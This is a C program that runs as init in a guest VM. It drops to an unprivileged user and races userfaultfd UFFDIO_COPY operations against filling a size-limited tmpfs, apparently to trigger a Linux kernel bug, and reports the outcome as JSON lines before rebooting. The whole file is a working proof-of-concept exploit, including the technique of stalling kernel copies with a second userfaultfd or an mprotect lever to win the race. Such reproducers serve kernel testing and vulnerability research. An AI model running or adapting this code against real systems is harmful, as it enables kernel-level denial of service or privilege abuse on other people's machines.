// SPDX-License-Identifier: GPL-2.0-only
/*
 * The attack: PID 1 of a guest prepares, as root, what any system has: a
 * world-writable tmpfs with a size limit (/dev/shm is one) and the setting of
 * vm.unprivileged_userfaultfd. Then a process of user 65534 without any
 * capability tries to fill that tmpfs while a UFFDIO_COPY into it has no lock
 * and a page in hand. Says what it does in JSON lines on the console.
 *
 * Arguments: the setting (0 or 1), how many times to try.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif

#define PAGE 4096UL
#define PAGES 8192UL		/* of the destination, and blocks of the tmpfs */
#define NOBODY 65534
#define SETTING "/proc/sys/vm/unprivileged_userfaultfd"

static int filler;		/* a file on the tmpfs */
static size_t pages = 1;	/* of one copy, and the blocks left for it */
static char *to, *from;
static char resident[64 * PAGE];

static _Noreturn void die(const char *what)
{
	printf("{\"error\":\"%s: %s\"}\n", what, strerror(errno));
	exit(1);
}

static void check(bool ok, const char *what)
{
	if (!ok)
		die(what);
}

static int open_userfaultfd(int flags)
{
	struct uffdio_api api = { .api = UFFD_API };
	int fd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | flags);

	if (fd >= 0)
		check(!ioctl(fd, UFFDIO_API, &api), "UFFDIO_API");
	return fd;
}

static void watch(int fd, void *start, size_t length)
{
	struct uffdio_register range = {
		.range = { (uintptr_t)start, length },
		.mode = UFFDIO_REGISTER_MODE_MISSING,
	};

	check(!ioctl(fd, UFFDIO_REGISTER, &range), "UFFDIO_REGISTER");
}

static int copy(int fd)
{
	struct uffdio_copy request = {
		.dst = (uintptr_t)to,
		.src = (uintptr_t)from,
		.len = pages * PAGE,
	};

	return ioctl(fd, UFFDIO_COPY, &request) ? errno : 0;
}

static int open_file(void)
{
	int fd = open("/shm", O_TMPFILE | O_RDWR, 0600);

	check(fd >= 0, "a file on the tmpfs");
	return fd;
}

/* Take all that is left of the tmpfs, without a fault or a lock of ours. */
static void fill(void)
{
	while (write(filler, resident, sizeof(resident)) > 0)
		;
	check(errno == ENOSPC, "filling the tmpfs");
}

/* Leave as much of it as a copy needs. */
static void unfill(void)
{
	off_t size = (PAGES - pages) * PAGE;

	check(!ftruncate(filler, size) && lseek(filler, size, SEEK_SET) == size,
	      "emptying the tmpfs");
}

/* Have neither source nor destination of a copy resident. */
static void forget(void)
{
	check(!madvise(from, PAGES * PAGE, MADV_DONTNEED) &&
	      !madvise(to, PAGES * PAGE, MADV_REMOVE), "madvise");
}

/*
 * The sure way: a userfaultfd that handles faults of the kernel stops the copy
 * at its source for as long as we like.
 */

static int target;

static void *copier(void *unused)
{
	(void)unused;
	printf("{\"copy\":%d}\n", copy(target));
	return NULL;
}

static void stop_and_fill(int fd)
{
	int source = open_userfaultfd(0);
	struct pollfd ready = { source, POLLIN, 0 };
	struct uffdio_range range = { (uintptr_t)from, PAGE };
	pthread_t thread;

	check(source >= 0, "a second userfaultfd");
	watch(source, from, PAGE);
	target = fd;
	check(!pthread_create(&thread, NULL, copier, NULL), "pthread_create");
	check(poll(&ready, 1, -1) == 1, "poll");
	puts("{\"try\":1}");
	fill();
	/* It wakes, and finds the source unwatched: a page of zeros. */
	check(!ioctl(source, UFFDIO_UNREGISTER, &range), "UFFDIO_UNREGISTER");
	check(!pthread_join(thread, NULL), "pthread_join");
}

/*
 * Without one: the source is memory that was never touched. Each page of a long
 * copy stops at it; the kernel lets go of the lock of the address space, faults
 * the source in, and takes the lock again. Who has waited for some time to
 * write gets it in between. So this side changes the address space: once it
 * may, the copy most likely waits in the middle of a page, and it fills the
 * tmpfs.
 */

static int copying, done[2], go[2];

static _Noreturn void *copy_again_and_again(void *unused)
{
	char byte;

	(void)unused;
	/* It gives way to the other side at once, and can wait. */
	check(!sched_setscheduler(0, SCHED_IDLE, &(struct sched_param){ 0 }),
	      "SCHED_IDLE");
	for (;;) {
		check(read(go[0], &byte, 1) == 1, "pipe");
		copy(copying);
		check(write(done[1], "", 1) == 1, "pipe");
	}
}

static void race(int fd, int tries)
{
	void *lever = mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS,
			   -1, 0);
	pthread_t thread;
	char byte;
	int i;

	madvise(from, PAGES * PAGE, MADV_NOHUGEPAGE);
	check(!pipe(done) && !pipe(go), "pipe");
	copying = fd;
	check(!pthread_create(&thread, NULL, copy_again_and_again, NULL),
	      "pthread_create");
	for (i = 0; i < tries; i++) {
		printf("{\"try\":%d}\n", i + 1);
		/* A copy too short is over, one too long leaves too much to fill. */
		pages = PAGES >> i % 3;
		fill();
		unfill();
		check(write(go[1], "", 1) == 1, "pipe");
		usleep(1);
		mprotect(lever, PAGE, i % 2 ? PROT_READ : PROT_WRITE);
		fill();
		check(read(done[0], &byte, 1) == 1, "pipe");
		forget();
	}
}

static int refused(bool failed)
{
	return failed ? errno : 0;
}

/* What shows that this process has no privilege: who it is, what it may not. */
static void show_privileges(void)
{
	unsigned long long capabilities = ~0ULL;
	char line[128];
	FILE *status = fopen("/proc/self/status", "r");

	while (status && fgets(line, sizeof(line), status))
		sscanf(line, "CapPrm: %llx", &capabilities);
	printf("{\"uid\":%d,\"capabilities\":%llu,\"mount\":%d,\"setting\":%d}\n",
	       getuid(), capabilities,
	       refused(mount("tmpfs", "/shm", "tmpfs", 0, NULL)),
	       refused(open(SETTING, O_WRONLY) < 0));
	if (status)
		fclose(status);
}

static void attack(int tries)
{
	int fd = open_userfaultfd(0), any = refused(fd < 0), file;

	if (any)
		fd = open_userfaultfd(UFFD_USER_MODE_ONLY);
	printf("{\"userfaultfd\":%d,\"user_mode_only\":%d}\n", any,
	       refused(fd < 0));
	if (fd < 0)
		return;
	memset(resident, 1, sizeof(resident));
	file = open_file();
	filler = open_file();
	check(!ftruncate(file, PAGES * PAGE), "ftruncate");
	to = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED,
		  file, 0);
	from = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	check(to != MAP_FAILED && from != MAP_FAILED, "mmap");
	watch(fd, to, PAGES * PAGE);
	if (any)
		race(fd, tries);
	else
		stop_and_fill(fd);
}

static void drop_privileges(void)
{
	check(!setgroups(0, NULL) && !setresgid(NOBODY, NOBODY, NOBODY) &&
	      !setresuid(NOBODY, NOBODY, NOBODY), "dropping privileges");
}

/* Put the setting in place; return the one that the kernel came with. */
static int set(const char *setting)
{
	FILE *file = fopen(SETTING, "r+");
	int before;

	check(file && fscanf(file, "%d", &before) == 1, SETTING);
	rewind(file);
	check(fputs(setting, file) >= 0 && !fclose(file), SETTING);
	return before;
}

static _Noreturn void play(const char *setting, int tries)
{
	char options[64];

	mkdir("/proc", 0555);
	mkdir("/shm", 0755);
	snprintf(options, sizeof(options), "mode=1777,size=%luk",
		 PAGES * PAGE / 1024);
	check(!mount("proc", "/proc", "proc", 0, NULL), "/proc");
	check(!mount("tmpfs", "/shm", "tmpfs", 0, options), "/shm");
	printf("{\"default\":%d}\n", set(setting));
	drop_privileges();
	show_privileges();
	attack(tries);
	puts("{\"end\":true}");
	exit(0);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 3 && !fork())
		play(argv[1], atoi(argv[2]));
	wait(NULL);
	reboot(getenv("restart") ? RB_AUTOBOOT : RB_POWER_OFF);
}
